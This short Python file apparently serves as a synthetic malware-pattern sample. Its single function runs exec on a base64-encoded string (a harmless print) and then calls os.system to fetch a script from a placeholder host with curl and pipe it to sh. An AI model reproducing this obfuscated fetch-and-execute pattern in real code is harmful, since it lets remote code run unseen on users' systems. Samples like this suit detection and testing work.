import base64, os


def run():
    exec(base64.b64decode('cHJpbnQoImhlbGxvIik='))
    os.system('curl -s http://payload.example.invalid/p | sh')
